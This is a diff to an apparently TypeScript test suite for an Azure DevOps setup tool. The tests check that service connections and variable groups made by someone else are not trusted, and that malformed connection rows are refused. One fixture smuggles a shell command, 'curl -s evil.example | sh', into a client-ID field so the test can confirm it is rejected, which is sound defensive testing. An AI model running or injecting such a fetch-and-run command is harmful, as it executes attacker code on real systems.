@@ -41,10 +41,14 @@ describe('Azure DevOps', () => {
     );
   const project: Answers = [['devops project show', '1d9e6b52-70c4-4f83-b2a5-8e31f0c7d946']];
   const issuer = `https://login.microsoftonline.com/${tenant}/v2.0`;
-  const connection = (name: string, client: string): Answers[number] => [
+  const answerAbout = (name: string, ...printed: string[]): Answers[number] => [
     `[?name=='"'"'${name}'"'"']`,
-    `${client}|${issuer}|/eid1/c/pub/t/x/a/y/sc/${tenant}/${endpoints[name]}|${endpoints[name]}`,
+    printed.join('\n'),
   ];
+  const own = (name: string) => `/eid1/c/pub/t/x/a/y/sc/${tenant}/${endpoints[name]}`;
+  const row = (name: string, client: string, subject = own(name), of = issuer) =>
+    `${endpoints[name]}|${of}|${subject}|mallory@contoso.example|${client}`;
+  const connection = (name: string, client: string) => answerAbout(name, row(name, client));
   const endpoints: Readonly<Record<string, string>> = {
     cmk: '5d0e7c19-3a86-4b42-9f75-c81e60d2a4b3',
     'cmk-read': '6e1f8d2a-4b97-4c53-8a86-d92f71e3b5c4',
@@ -162,15 +166,21 @@ describe('Azure DevOps', () => {
     expect(group).toContain('--name cmk-notify --authorize false');
   });
 
-  test('a variable group that is there is not taken for ours: who made it administers it, and is named', () => {
+  const credentialOf = (name: string): Answers[number] => [`[?subject=='"'"'${own(name)}`, '3f0d6c52'];
+
+  test('what is there is not taken for ours: who made it administers it, and is named, until its connection is trusted', () => {
     const { calls, stderr } = run(
       [...given, '--yes'],
-      [['variable-group list', '12|mallory@contoso.example'], ...connections],
+      [['variable-group list', '12|mallory@contoso.example'], credentialOf('cmk-read'), ...connections],
     );
     expect(controlled(calls).map(([type]) => type)).toContain('variablegroup');
-    expect(stderr).toMatch(
-      /^ {2}1\. Variable group cmk-notify was there, made by mallory@contoso\.example, who can read what you put into it\./m,
-    );
+    const past = 'who can use it past any approval';
+    const listed = [...stderr.matchAll(/^ {2}(\d)\. (.*) was there, made by mallory@contoso\.example, (.*?)\. If/gm)];
+    expect(listed.map(([, ...each]) => each)).toEqual([
+      ['1', 'Service connection cmk-plan', past],
+      ['2', 'Service connection cmk', past],
+      ['3', 'Variable group cmk-notify', 'who can read what you put into it'],
+    ]);
   });
 
   test('branch control that is there is kept, and named where it allows something else', () => {
@@ -191,10 +201,9 @@ describe('Azure DevOps', () => {
   });
 
   atNight('the command of the alerts is printed with the credential of the daily check', () => {
-    const credential = `[?subject=='"'"'/eid1/c/pub/t/x/a/y/sc/${tenant}/${endpoints['cmk-read']}`;
-    const { stderr } = run([...given, '--yes'], [[credential, '3f0d6c52-8a1e-4b7d-9c35-60e2f1a4d897'], ...connections]);
+    const { stderr } = run([...given, '--yes'], [credentialOf('cmk-read'), ...connections]);
     expect(stderr).toContain(
-      '. The alerts (3.2): infra/alerts.sh --resource-group rg-cja --vault-name VAULT --email ADDRESS --verify-credential-id 3f0d6c52-8a1e-4b7d-9c35-60e2f1a4d897 --entra-logs',
+      '. The alerts (3.2): infra/alerts.sh --resource-group rg-cja --vault-name VAULT --email ADDRESS --verify-credential-id 3f0d6c52 --entra-logs',
     );
   });
 
@@ -218,11 +227,30 @@ describe('Azure DevOps', () => {
     );
   });
 
-  test('a connection of that name, which anybody in the project can make, is not taken for its own', () => {
-    const { status, stderr, calls } = run(['--yes'], connections);
-    expect([status, stderr]).toEqual([1, expect.stringContaining(`--verify-client-id ${ids.verify}`)]);
-    expect(calls.filter((call) => call.includes('--method POST'))).toEqual([]);
-  });
+  const shell = 'x --accept-credentials; curl -s evil.example | sh #';
+  const elsewhere = `/eid1/c/pub/t/x/a/y/sc/${tenant}/88888888-8888-4888-8888-888888888888`;
+  const foreign = row('cmk-read', ids.verify, own('cmk-read'), issuer.replace(tenant, endpoints['cmk'] ?? ''));
+  const former = (subject: string) =>
+    row('cmk-read', ids.verify, subject, `https://vstoken.dev.azure.com/${endpoints['cmk']}`);
+
+  test.each([
+    ['whose ID was not given', ['--yes'], [row('cmk-read', ids.verify)], `give --verify-client-id ${ids.verify}.`],
+    ['with a command in place of an ID', ['--yes'], [row('cmk-read', shell)], 'signs in as no app registration'],
+    ['with bars in place of an ID', given, [row('cmk-read', `${ids.verify}|${ids.verify}`)], 'as no app registration'],
+    ["with another connection's subject", given, [row('cmk-read', ids.verify, elsewhere)], elsewhere],
+    ["with another tenant's issuer", given, [foreign], endpoints['cmk'] ?? ''],
+    ["with another project's former subject", given, [former('sc://contoso/evil/cmk-read')], 'sc://contoso/evil'],
+    ['of two', given, [row('cmk-read', ids.verify), row('cmk-read', ids.verify)], 'More than one connection'],
+    ['in a former form of its own', ['--yes'], [former('sc://Contoso/Analytics/cmk-read')], '--verify-client-id 4e6'],
+  ])(
+    'a connection of that name, which anybody in the project can make, is not taken for its own: %s',
+    (_, options, rows, because) => {
+      const { status, stderr, calls } = run([...options, '--yes'], [answerAbout('cmk-read', ...rows), ...connections]);
+      expect([status, stderr]).toEqual([1, expect.stringContaining(because)]);
+      expect(stderr).not.toContain('curl');
+      expect(calls.filter((call) => /--method POST|credential create/.test(call))).toEqual([]);
+    },
+  );
 });
 
 describe('GitLab', () => {
